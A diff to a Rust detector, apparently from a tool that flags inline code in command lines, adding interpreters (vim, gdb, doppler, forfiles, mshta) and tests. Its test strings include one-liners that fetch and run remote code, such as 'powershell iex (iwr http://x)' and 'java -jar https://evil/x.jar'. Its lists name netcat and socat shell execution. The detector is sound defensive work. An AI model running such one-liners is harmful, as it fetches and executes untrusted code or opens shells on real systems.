@@ -1,7 +1,7 @@
 //! Finds code that stands in a command line itself: `python -c …`, `bash -lc …`, `ssh -o ProxyCommand=…`. Wherever in the
 //! line the interpreter is named, because any program may start it. Pure; says nothing about what the code does.
 
-use satchel_entry::launcher::{Launch, Runs, is_engine};
+use satchel_entry::launcher::{Launch, Runs, is_engine, words};
 
 /// How a program is told code: options of one letter, which may be written together; other options; and the options that
 /// take the next word as their value, so that a value is not taken for a script.
@@ -35,6 +35,9 @@ const fn interpreter(
     Interpreter { names, letters, words, valued, script }
 }
 
+/// The first word that is no option is the package; what follows is its own.
+const NPX: [&str; 3] = ["npx", "pnpx", "bunx"];
+
 /// Names are without directory, ending and version: `python3.12.exe` is `python`.
 const INTERPRETERS: &[Interpreter] = &[
     interpreter(
@@ -43,7 +46,7 @@ const INTERPRETERS: &[Interpreter] = &[
             "xonsh", "elvish",
         ],
         "c",
-        &["--command", "--commands", "--init-command", "--execute"],
+        &["--command", "--commands", "--init-command", "--execute", "-s"],
         &["-o", "+o", "-O", "+O", "--rcfile", "--init-file"],
         Script::First,
     ),
@@ -80,7 +83,7 @@ const INTERPRETERS: &[Interpreter] = &[
         Script::File,
     ),
     interpreter(
-        &["julia", "elixir", "iex", "erl", "sbcl", "emacs", "racket", "ghc", "mongosh", "vim", "nvim"],
+        &["julia", "elixir", "iex", "erl", "sbcl", "emacs", "racket", "ghc", "mongosh"],
         "eE",
         &["--eval", "-eval", "--print", "--cmd"],
         &[],
@@ -102,13 +105,18 @@ const INTERPRETERS: &[Interpreter] = &[
         Script::Never,
     ),
     interpreter(&["nix", "nix-shell", "nix-develop"], "c", &["--run", "--command"], &["-p"], Script::Never),
+    interpreter(&NPX, "c", &["--call", "--shell-mode"], &["-p", "--package"], Script::First),
     interpreter(
-        &["npx", "npm", "pnpm", "pnpx", "yarn", "bunx"],
+        &["npm", "pnpm", "yarn"],
         "c",
         &["--call", "--shell-mode"],
         &["-p", "--package"],
         Script::First,
     ),
+    interpreter(&["vim", "vi", "nvim", "ex"], "c", &["--cmd"], &[], Script::Never),
+    interpreter(&["gdb", "lldb"], "", &["-ex", "-iex", "--eval-command", "--one-line"], &[], Script::Never),
+    interpreter(&["doppler", "infisical"], "", &["--command"], &[], Script::Never),
+    interpreter(&["forfiles"], "", &["/c", "/C"], &[], Script::Never),
     interpreter(&["nc", "ncat", "netcat"], "ec", &["--exec", "--sh-exec", "--lua-exec"], &[], Script::Never),
     interpreter(&["find"], "", &["-exec", "-execdir", "-ok", "-okdir"], &[], Script::Never),
     interpreter(&["make", "gmake"], "", &["--eval"], &["-f", "-C"], Script::Never),
@@ -125,7 +133,14 @@ const COMMANDS_IN_OPTIONS: &[(&[&str], &[&str])] = &[
     (&["rsync"], &["--rsh=", "-e"]),
     (&["socat"], &["exec:", "system:", "shell:"]),
     (&["env"], &["-s", "--split-string"]),
+    (&["sqlite"], &[".shell", ".system"]),
+    (&["psql", "mysql", "mariadb"], &["\\!", "system "]),
+    (&["mshta", "rundll"], &["javascript:", "vbscript:"]),
+    (&["wscript", "cscript"], &["//e:"]),
 ];
+/// Programs whose arguments are lines for a shell.
+const LINES: &[&str] =
+    &["concurrently", "cross-env-shell", "watch", "parallel", "ssh", "autossh", "hyperfine"];
 
 /// Their names are ordinary words too, which count only where a program stands.
 const ORDINARY: &[&str] = &["script", "find", "make", "flock", "sg", "expect", "env", "tar"];
@@ -140,13 +155,37 @@ pub(super) fn written_code(words: &[String]) -> Vec<String> {
         if at > 0 && ORDINARY.contains(&name.as_str()) {
             continue;
         }
-        let Some(how) = told_code(&name, &words[at + 1..]) else { continue };
-        let how = format!("{} {how}", base(word));
+        let how = match told_code(&name, &words[at + 1..]) {
+            Some(how) => format!("{} {how}", base(word)),
+            // What another program was found to run is not said twice.
+            None => match line_in(word).filter(|_| at > 0 && found.is_empty()) {
+                Some(how) => how,
+                None => continue,
+            },
+        };
         if !found.contains(&how) {
             found.push(how);
         }
     }
     found
+}
+
+/// What is code in an argument that is a whole command line: `--stdio "sh -c …"`.
+fn line_in(argument: &str) -> Option<String> {
+    if !argument.trim().contains(char::is_whitespace) {
+        return None;
+    }
+    let words = words(argument)?;
+    let name = program(words.first()?);
+    told_code(&name, &words[1..]).map(|how| format!("{} {how}", base(&words[0])))
+}
+
+/// The first argument that only a shell can read.
+fn shell_line(rest: &[String]) -> Option<String> {
+    let is_line = |word: &&String| {
+        word.contains(['&', '|', ';', '`', '<', '>', '\n']) || word.contains("$(") || word.contains(' ')
+    };
+    rest.iter().find(|word| !word.starts_with('-') && is_line(word)).map(|_| "…".to_owned())
 }
 
 fn told_code(name: &str, rest: &[String]) -> Option<String> {
@@ -159,8 +198,18 @@ fn told_code(name: &str, rest: &[String]) -> Option<String> {
             let eval = rest.iter().find(|word| matches!(word.as_str(), "eval" | "--eval")).cloned();
             eval.or_else(|| from_elsewhere(name, rest))
         }
-        "uv" | "uvx" | "pipx" => from_elsewhere(name, rest),
-        "powershell" | "pwsh" => windows_command(rest),
+        "uv" | "uvx" | "pipx" | "java" => from_elsewhere(name, rest),
+        "jbang" => rest.iter().find(|word| word.contains("://")).cloned(),
+        "nix" => {
+            let runs = rest.first().is_some_and(|word| matches!(word.as_str(), "run" | "shell" | "develop"));
+            rest.iter().find(|word| runs && word.contains(':')).cloned()
+        }
+        "yarn" | "pnpm" if rest.first().is_some_and(|word| word == "exec") => shell_line(&rest[1..]),
+        _ if LINES.contains(&name) => {
+            let config = || rest.iter().find(|word| name == "ssh" && *word == "-F").cloned();
+            shell_line(rest).or_else(config)
+        }
+        "powershell" | "pwsh" => windows_command(rest).or_else(|| shell_line(rest)),
         "cmd" => cmd(rest),
         _ if is_engine(name) => entrypoint(rest),
         "node" | "nodejs" | "bun" | "tsx" => {
@@ -196,7 +245,9 @@ fn code_option(interpreter: &Interpreter, rest: &[String]) -> Option<String> {
             Cluster::Module => return None,
             Cluster::Other => {}
         }
-        let is_plain = !word.starts_with(['-', '+']) && !VERBS.contains(&word.as_str());
+        let is_verb =
+            VERBS.contains(&word.as_str()) && !NPX.iter().any(|name| interpreter.names.contains(name));
+        let is_plain = !word.starts_with(['-', '+']) && !is_verb;
         let is_script = match interpreter.script {
             Script::First => is_plain,
             Script::File => is_plain && word.contains(['.', '/', '\\']),
@@ -403,6 +454,26 @@ mod tests {
             ("socat TCP:h:1 EXEC:sh", "socat EXEC:sh"),
             ("awk BEGIN{system(\"x\")}", "awk {…}"),
             ("su -c x user", "su -c"),
+            ("ssh host touch_x;_y", "ssh …"),
+            ("ssh -F cfg host", "ssh -F"),
+            ("pwsh x;_y", "pwsh …"),
+            ("powershell iex_(iwr_http://x)", "powershell …"),
+            ("npx cross-env-shell a_b", "cross-env-shell …"),
+            ("npx -y concurrently npm:a b_c", "concurrently …"),
+            ("npx -y supergateway --stdio sh_-c_x", "sh -c"),
+            ("doppler run --command x", "doppler --command"),
+            ("infisical run --command=x", "infisical --command"),
+            ("nix run github:evil/x", "nix github:evil/x"),
+            ("jbang https://evil/x.java", "jbang https://evil/x.java"),
+            ("java -jar https://evil/x.jar", "java https://evil/x.jar"),
+            ("vim -c :!x", "vim -c"),
+            ("gdb -ex shell_x", "gdb -ex"),
+            ("sqlite3 db .shell_x", "sqlite3 .shell"),
+            ("psql -c \\!_x", "psql \\!"),
+            ("yarn exec x;_y", "yarn …"),
+            ("forfiles /c x", "forfiles /c"),
+            ("mshta javascript:x", "mshta javascript:x"),
+            ("sh -s", "sh -s"),
             ("nix-shell -p python3 --run x", "nix-shell --run"),
         ] {
             assert_eq!(found(line), [how], "{line}");
@@ -414,6 +485,9 @@ mod tests {
         for line in [
             "npx -y @scope/server@1.2.3 -c config.json -e prod",
             "npx -y server --eval",
+            "npx x -c config.json",
+            "npx -y server --say hello_there",
+            "nix run .",
             "uvx mcp-server-git --repository /x -c y",
             "python -m server -c config.toml",
             "python server.py -c x",
